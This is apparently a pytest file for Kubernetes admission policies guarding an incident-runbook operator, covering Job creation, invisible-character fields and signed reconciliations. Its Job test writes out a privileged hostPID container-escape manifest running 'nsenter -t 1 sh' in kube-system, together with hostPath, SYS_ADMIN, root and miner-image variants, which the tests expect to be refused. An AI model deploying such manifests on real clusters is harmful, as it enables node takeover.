def test_an_invisible_service_or_title_is_refused(kubectl: Callable[..., Any], approvers: str) -> None:
    """Item 6: incidents whose service or title was only \u200b, \u180e or NUL."""
    ns = approvers
    for i, (field, value) in enumerate((("service", "\u200b"), ("service", "\u180e\u200b"), ("service", "\u0000"),
                                        ("service", "cart\u200b"), ("title", "\u200b\u180e"), ("title", "\u0000"))):
        bad = incident(ns, f"invisible-{i}", "mallory")
        bad["spec"][field] = value
        words = ("service must be a visible name",) if field == "service" else ("title needs a visible character",)
        refused(create(kubectl, bad, as_user="mallory"), *words, what=f"an Incident whose {field} is {value!r}")


def job(ns: str, name: str, **changes: Any) -> dict[str, Any]:
    """A Job as the operator builds it, for the Runbook `recall-test-runbook`, then changed."""
    step = {"name": "restart", "image": "busybox:1.36", "command": ["true"], "risk": "low"}
    manifest = jobkit.job_manifest("inc-1", ns, "00000000-0000-0000-0000-000000000001", step, "run", 1, {},
                                   runbook="recall-test-runbook", approvals=["by-bob"])
    manifest["metadata"]["name"] = name
    manifest["metadata"].pop("ownerReferences")  # the Incident does not exist; a dry run checks the rest
    pod = manifest["spec"]["template"]["spec"]
    for key, value in changes.items():
        target, _, field = key.rpartition("__")
        where = {"pod": pod, "container": pod["containers"][0], "meta": manifest["metadata"], "": pod}[target]
        if value is None:
            where.pop(field, None)
        else:
            where[field] = value
    return manifest


def test_the_operators_account_creates_only_runbook_jobs(kubectl: Callable[..., Any], approvers: str) -> None:
    """Item 4: with the operator's token a server dry-run accepted a privileged hostPID Job in kube-system."""
    ns = approvers
    runbook = {"apiVersion": "recall.dev/v1alpha1", "kind": "Runbook",
               "metadata": {"name": "recall-test-runbook", "namespace": ns},
               "spec": {"title": "restart", "services": ["cart"],
                        "steps": [{"name": "restart", "image": "busybox:1.36", "command": ["true"]}]}}
    kubectl("apply", "-f", "-", input=json.dumps(runbook), check=True)

    def as_operator(obj: dict[str, Any]) -> Any:
        return create(kubectl, obj, as_user=OPERATOR, dry_run=True)

    escape = {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "own-the-node", "namespace": "kube-system"},
              "spec": {"template": {"spec": {
                  "serviceAccountName": "clusterrole-aggregation-controller", "hostPID": True,
                  "restartPolicy": "Never",
                  "containers": [{"name": "x", "image": "busybox:1.36", "command": ["nsenter", "-t", "1", "sh"],
                                  "securityContext": {"privileged": True}}]}}}}
    eventually_refused(lambda: as_operator(escape), what="the operator's account: a privileged hostPID Job in kube-system")
    ok = as_operator(job(ns, "as-built"))
    assert ok.returncode == 0, f"a Job as the operator builds it is refused: {ok.stderr}"
    # Pinned to the digest its dry-run ran (kube.jobs.pinned_image): the Runbook's image, that digest appended.
    digest = "sha256:" + "ab" * 32
    ok = as_operator(job(ns, "pinned", container__image=jobkit.pinned_image("busybox:1.36", digest)))
    assert ok.returncode == 0, f"a Job pinned to its dry-run's digest is refused: {ok.stderr}"
    attacks = [
        (job(ns, "other-account", pod__serviceAccountName="clusterrole-aggregation-controller"),
         "runs as the runbook executor (recall-runbook-executor), not clusterrole-aggregation-controller"),
        (job(ns, "default-account", pod__serviceAccountName=None), "not the default account"),
        (job(ns, "host-pid", pod__hostPID=True), "restricted pod profile"),
        (job(ns, "host-network", pod__hostNetwork=True), "restricted pod profile"),
        (job(ns, "privileged", container__securityContext={"privileged": True, "capabilities": {"drop": ["ALL"]}}),
         "restricted pod profile"),
        (job(ns, "escalates", container__securityContext={"allowPrivilegeEscalation": True,
                                                            "capabilities": {"drop": ["ALL"]}}),
         "restricted pod profile"),
        (job(ns, "root", pod__securityContext={"runAsNonRoot": True, "runAsUser": 0,
                                               "seccompProfile": {"type": "RuntimeDefault"}}),
         "restricted pod profile"),
        (job(ns, "adds-caps", container__securityContext={"allowPrivilegeEscalation": False, "capabilities": {
            "drop": ["ALL"], "add": ["SYS_ADMIN"]}}), "restricted pod profile"),
        (job(ns, "host-path", pod__volumes=[{"name": "root", "hostPath": {"path": "/"}}]), "restricted pod profile"),
        (job(ns, "unlabelled", meta__labels={"app": "x"}), "carries the recall.dev/incident label"),
        (job(ns, "no-runbook", meta__annotations={"recall.dev/incident-name": "inc-1"}), "names its Runbook"),
        (job(ns, "other-image", container__image="attacker/miner:latest"),
         "runs only images its Runbook names (pinned to a digest or not): runbook recall-test-runbook names none of "
         "attacker/miner:latest"),
        # Only a digest may follow the Runbook's image: not another tag, a short digest, or more text.
        (job(ns, "other-pin", container__image=f"attacker/miner@{digest}"), "names none of attacker/miner@sha256"),
        (job(ns, "short-pin", container__image="busybox:1.36@sha256:abcd"), "names none of busybox:1.36@sha256:abcd"),
        (job(ns, "pin-and-more", container__image=f"busybox:1.36@{digest}0"), "names none of busybox:1.36@sha256"),
        (job(ns, "upper-pin", container__image=f"busybox:1.36@{digest.upper().replace('SHA', 'sha')}"),
         "names none of busybox:1.36@sha256"),
        (job(ns, "retagged", container__image="busybox:1.36-evil"), "names none of busybox:1.36-evil"),
    ]
    for manifest, words in attacks:
        refused(as_operator(manifest), words, what=f"the operator's account: Job {manifest['metadata']['name']}")
    # The policy judges the operator's account only: the admin's own Jobs are RBAC's business.
    ok = create(kubectl, job(ns, "admins-own", container__image="attacker/miner:latest"), dry_run=True)
    assert ok.returncode == 0, ok.stderr


def test_other_users_jobs_where_no_runbook_is_are_not_the_policys_business(
    kubectl: Callable[..., Any], approvers: str
) -> None:
    """A namespace without Runbooks: the operator gets no Job there, everyone else's Jobs go through.

    The API server looks a policy's parameters up before its matchConditions; bound
    to every Job, the Runbook rules refused every user's Job in such a namespace
    ("no params found for policy binding"), a CronJob of any team included.
    """
    ns = approvers
    plain = {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "nightly-report", "namespace": ns},
             "spec": {"template": {"spec": {"restartPolicy": "Never",
                                            "containers": [{"name": "report", "image": "busybox:1.36",
                                                            "command": ["true"]}]}}}}
    eventually_refused(lambda: create(kubectl, job(ns, "no-runbook-here"), as_user=OPERATOR, dry_run=True),
                       "no params found", what="the operator's account: a Job where no Runbook is")
    for user in (None, "olga"):
        if user:
            kubectl("create", "rolebinding", "olga-jobs", "--clusterrole=edit", "--user=olga", "-n", ns, check=True)
        ok = create(kubectl, plain, as_user=user, dry_run=True)
        assert ok.returncode == 0, f"{user or 'the admin'}'s own Job where no Runbook is: {ok.stderr}"


def contradiction(ns: str, name: str, resolution: dict[str, Any] | None = None) -> dict[str, Any]:
    spec: dict[str, Any] = {"topic": "consumer lag: scale out or cap concurrency",
                            "memories": ["inc-0007", "inc-0024"],
                            "claims": [{"memory": "inc-0007", "claim": "scaling consumers out cleared the lag"},
                                       {"memory": "inc-0024", "claim": "capping concurrency cleared the lag"}]}
    if resolution is not None:
        spec["resolution"] = resolution
    return {"apiVersion": "recall.dev/v1alpha1", "kind": "Contradiction",
            "metadata": {"name": name, "namespace": ns}, "spec": spec}


def reconcile(kubectl: Callable[..., Any], ns: str, name: str, resolution: dict[str, Any], as_user: str | None) -> Any:
    return kubectl("patch", "contradiction", name, "-n", ns, "--type=merge",
                   "-p", json.dumps({"spec": {"resolution": resolution}}), as_user=as_user)


def test_a_reconciliation_is_signed_by_whoever_reconciles(kubectl: Callable[..., Any], approvers: str) -> None:
    """A reconciled Contradiction lets an answer it held advisory be actionable again: the API server signs it.

    Before, reconciledBy was free text: anyone who could write Contradictions
    lifted the gate in another person's name, and the operator's own account
    (which proposes Contradictions) could reconcile one.
    """
    ns = approvers
    for user in ("rita", "ravi"):
        kubectl("create", "rolebinding", f"reconciler-{user}", "--clusterrole=recall-reconciler",
                f"--user={user}", "-n", ns, check=True)
    note = {"state": "reconciled", "note": "scale out when consumers starve; cap concurrency when they run out of memory"}
    # Proposing an open one needs no signature: an open Contradiction keeps its answers advisory.
    ok = create(kubectl, contradiction(ns, "lag-fix"), as_user="rita")
    assert ok.returncode == 0, ok.stderr
    eventually_refused(lambda: reconcile(kubectl, ns, "lag-fix", {**note, "reconciledBy": "ravi"}, "rita"),
                       "spec.resolution.reconciledBy must be you (rita)", "not ravi",
                       what="rita reconciles a contradiction in ravi's name")
    refused(reconcile(kubectl, ns, "lag-fix", note, "rita"), "must be you (rita)", "it is missing",
            what="rita reconciles a contradiction unsigned")
    refused(create(kubectl, contradiction(ns, "born-reconciled", {**note, "reconciledBy": "ravi"}), as_user="rita"),
            "must be you (rita)", what="rita creates a contradiction reconciled in ravi's name")
    refused(create(kubectl, contradiction(ns, "by-admin", {**note, "reconciledBy": "rita"})), f"must be you ({ADMIN})",
            what="the admin creates a contradiction reconciled in rita's name")
    ok = reconcile(kubectl, ns, "lag-fix", {**note, "reconciledBy": "rita"}, "rita")
    assert ok.returncode == 0, ok.stderr

    # Whoever changes a reconciled one signs it anew; a label, or opening it again, needs no signature.
    changed = {**note, "note": "always scale out", "reconciledBy": "rita"}
    refused(reconcile(kubectl, ns, "lag-fix", changed, "ravi"), "must be you (ravi)", "not rita",
            what="ravi rewrites rita's reconciliation under her name")
    refused(kubectl("patch", "contradiction", "lag-fix", "-n", ns, "--type=json", "-p", json.dumps(
        [{"op": "replace", "path": "/spec/claims/1/claim", "value": "capping never helped"}]), as_user="ravi"),
        "must be you (ravi)", what="ravi rewrites a claim of a reconciled contradiction")
    ok = kubectl("label", "contradiction", "lag-fix", "-n", ns, "team=payments", as_user="ravi")
    assert ok.returncode == 0, ok.stderr
    ok = reconcile(kubectl, ns, "lag-fix", {**changed, "reconciledBy": "ravi"}, "ravi")
    assert ok.returncode == 0, ok.stderr
    ok = reconcile(kubectl, ns, "lag-fix", {"state": "open"}, "rita")
    assert ok.returncode == 0, ok.stderr
    body = json.loads(kubectl("get", "contradiction", "lag-fix", "-n", ns, "-o", "json", check=True).stdout)
    assert body["spec"]["resolution"] == {"state": "open", "note": "always scale out", "reconciledBy": "ravi"}

    # The operator's account proposes and never reconciles, even signed as itself.
    ok = create(kubectl, contradiction(ns, "proposed"), as_user=OPERATOR)
    assert ok.returncode == 0, ok.stderr
    refused(reconcile(kubectl, ns, "proposed", {**note, "reconciledBy": OPERATOR}, OPERATOR),
            "is the operator, which proposes Contradictions and never reconciles one",
            what="the operator's account reconciles a contradiction")
    # Neither a responder writes them, nor a reconciler deletes one (an open one's gate would go unsigned).
    refused(create(kubectl, contradiction(ns, "by-responder"), as_user="mallory"), "forbidden",
            what="a responder writes a contradiction")
    refused(kubectl("delete", "contradiction", "proposed", "-n", ns, as_user="rita"), "forbidden",
            what="a reconciler deletes an open contradiction")


def test_zz_report(policies: None) -> None:
    print(f"\nadmission: {len(REFUSED)} bad inputs refused: " + "; ".join(REFUSED))
    assert len(REFUSED) >= 40
